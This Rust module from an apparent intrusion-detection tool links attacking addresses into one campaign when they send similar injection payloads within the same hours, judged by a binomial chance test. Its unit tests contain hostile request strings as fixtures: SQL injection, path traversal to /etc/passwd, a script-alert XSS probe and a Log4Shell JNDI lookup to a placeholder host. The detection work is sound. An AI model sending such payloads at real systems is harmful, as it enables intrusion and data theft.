//! Joins addresses that send payloads in one short stretch of time: somebody who looks for holes
//! and changes address and program.
//!
//! Two addresses of one attacker have little in common: tools take their payloads from the same
//! public lists, and user agents can be made up. But apart from the background noise of the
//! internet few send payloads at all, so that several do in the same hours is seldom an accident.
//! How seldom is computed: given how many send payloads in the whole log, a binomial law gives the
//! chance that as many begin in a stretch as short. Where the noise is dense, chance explains
//! nearly everything, and nobody is joined.

use super::group::{Evidence, Group};
use super::key;
use crate::detect::baseline::at_most;
use crate::detect::policy;
use crate::dossier::Event;
use crate::record::time::DAY;
use crate::triage::payload;
use hashbrown::HashMap;
use std::collections::BTreeSet;

/// Payloads of a group: when, and of which sorts.
struct Throws {
    from: i64,
    to: i64,
    sorts: BTreeSet<&'static str>,
}

/// Joins groups that throw payloads in the same hours, where that is no accident.
pub(super) fn join(groups: Vec<Group>, evidence: &Evidence<'_>) -> Vec<Group> {
    let (log, limits) = (evidence.days.days() * DAY, &evidence.policy.campaign.volley);
    let mut open: Vec<(Throws, Group)> = Vec::new();
    let mut joined = Vec::new();
    for group in groups {
        match throws(&group, evidence) {
            Some(throws) => open.push((throws, group)),
            None => joined.push(group),
        }
    }
    let all = open.len() as u64;
    let name = |group: &Group| group.actors.iter().map(|at| key(evidence.dossiers, *at)).min();
    open.sort_by_cached_key(|(throws, group)| (throws.from, name(group)));
    let (short, long): (Vec<_>, Vec<_>) =
        open.into_iter().partition(|(throws, _)| (throws.to - throws.from) * limits.part <= log);
    joined.extend(long.into_iter().map(|(_, group)| group));
    for volley in overlapping(short) {
        joined.extend(one_hand(volley, (all, log), limits));
    }
    joined.sort_by_cached_key(name);
    joined
}

/// Those of whom each begins before one of the others has ended, of some in the order of time.
fn overlapping(open: Vec<(Throws, Group)>) -> Vec<Vec<(Throws, Group)>> {
    let mut volleys: Vec<Vec<(Throws, Group)>> = Vec::new();
    let mut until = i64::MIN;
    for (throws, group) in open {
        let goes_on = throws.from <= until;
        until = until.max(throws.to);
        match volleys.last_mut().filter(|_| goes_on) {
            Some(volley) => volley.push((throws, group)),
            None => volleys.push(vec![(throws, group)]),
        }
    }
    volleys
}

/// A volley as one group, if so many do not come together by accident and throw the same.
fn one_hand(
    volley: Vec<(Throws, Group)>,
    (all, log): (u64, i64),
    limits: &policy::Volley,
) -> Vec<Group> {
    let mut thrown: HashMap<&str, usize> = HashMap::new();
    for sort in volley.iter().flat_map(|(throws, _)| &throws.sorts) {
        *thrown.entry(sort).or_default() += 1;
    }
    let is_shared = |sort: &&&str| thrown.get(**sort).is_some_and(|hands| *hands > 1);
    let (alike, apart): (Vec<_>, Vec<_>) = volley
        .into_iter()
        .partition(|(throws, _)| throws.sorts.iter().filter(is_shared).count() >= limits.alike);
    let mut groups: Vec<Group> = apart.into_iter().map(|(_, group)| group).collect();
    let count = alike.len();
    let from = alike.iter().map(|(throws, _)| throws.from).min().unwrap_or(0);
    let to = alike.iter().map(|(throws, _)| throws.to).max().unwrap_or(0);
    let mut each = alike.into_iter().map(|(_, group)| group);
    match each.next() {
        Some(mut whole)
            if count > 1 && accident(count as u64, all, to - from, log) <= limits.accident =>
        {
            each.for_each(|group| whole.absorb(group));
            whole.note(format!(
                "{count} actors or groups send payloads of the same sorts within {} minutes; {all} do in the whole of the logs",
                (to - from) / 60_000_000
            ));
            groups.push(whole);
        }
        first => groups.extend(first.into_iter().chain(each)),
    }
    groups
}

/// How many times as many come together as shortly, by accident: the upper tail of the binomial law
/// for the others of each who may be the first.
fn accident(count: u64, all: u64, stretch: i64, log: i64) -> f64 {
    let chance = stretch as f64 / log.max(1) as f64;
    let fewer = at_most(count.saturating_sub(2), all.saturating_sub(1), chance);
    all as f64 * (1.0 - fewer)
}

/// What a group throws, if all its members throw payloads.
fn throws(group: &Group, evidence: &Evidence<'_>) -> Option<Throws> {
    if !group.found.is_empty() {
        return None;
    }
    let mut all: Vec<(&Event, &'static str)> = Vec::new();
    for actor in &group.actors {
        let finding = evidence.by("injection", *actor)?;
        let before = all.len();
        all.extend(finding.verdict.events.iter().filter_map(|event| {
            let signature = payload::signature(event.payload.signature)?;
            (!signature.class.is_door()).then_some((event, signature.name))
        }));
        if all.len() - before < evidence.policy.campaign.volley.payloads {
            return None;
        }
    }
    let times = || all.iter().map(|(event, _)| event.time.0);
    let (from, to) = (times().min()?, times().max()?);
    Some(Throws { from, to, sorts: all.iter().map(|(_, name)| *name).collect() })
}

#[cfg(test)]
mod tests {
    use crate::campaign::trial::{linked, readers};
    use crate::detect::stage::{MONDAY, Request, play};

    /// Somebody with a program of his own who sends six payloads from an hour of the log on.
    fn thrower(at: i64, hour: i64) -> Vec<Request> {
        let targets = [
            "/v1/orders/70001?sort=%27+UNION+SELECT+1,2--",
            "/v1/orders/..%2f..%2f..%2fetc%2fpasswd",
            "/v1/orders/70001?q=%3Cscript%3Ealert(1)%3C/script%3E",
        ];
        let one = |i: i64, target: &str| {
            let time = MONDAY + hour * 3600 + i * 900 + at;
            let request = Request::at(time, target.to_owned());
            Request { status: 400, ..request.from(format!("203.{at}.113.7"), format!("App/{at}")) }
        };
        (0..6).zip(targets.iter().cycle()).map(|(i, target)| one(i, target)).collect()
    }

    fn campaigns(hours: &[i64]) -> Vec<usize> {
        let each = (1..).zip(hours).flat_map(|(at, hour)| thrower(at, *hour));
        let found = linked(&play(&[readers(21), each.collect()].concat()));
        let mut actors: Vec<usize> = found
            .iter()
            .filter(|campaign| campaign.kind == "injection")
            .map(|campaign| campaign.actors.len())
            .collect();
        actors.sort_unstable();
        actors
    }

    #[test]
    fn several_who_throw_payloads_in_the_same_hours_are_one_and_in_different_weeks_are_not() {
        assert_eq!(campaigns(&[200, 200, 201]), [3]);
        assert_eq!(campaigns(&[100, 240, 400]), [1, 1, 1]);
    }

    #[test]
    fn whoever_throws_nothing_that_the_others_throw_is_apart() {
        let other = |i: i64| {
            let time = MONDAY + 200 * 3600 + i * 900 + 7;
            let request = Request::at(time, "/v1/orders/70001?q=$%7Bjndi:ldap://a.example/x%7D");
            Request { status: 400, ..request.from("203.9.113.7", "App/9") }
        };
        let each = (1..).zip([200, 200, 201]).flat_map(|(at, hour)| thrower(at, hour));
        let all: Vec<Request> = each.chain((0..6).map(other)).collect();
        let found = linked(&play(&[readers(21), all].concat()));
        let injections = found.iter().filter(|campaign| campaign.kind == "injection");
        let mut actors: Vec<usize> = injections.map(|campaign| campaign.actors.len()).collect();
        actors.sort_unstable();
        assert_eq!(actors, [1, 3]);
    }

    #[test]
    fn where_many_throw_payloads_at_all_times_two_at_a_time_are_an_accident() {
        let mut noise: Vec<i64> = (0..40).map(|at| 5 + at * 12).collect();
        noise.push(5);
        assert!(campaigns(&noise).iter().all(|actors| *actors == 1));
    }
}
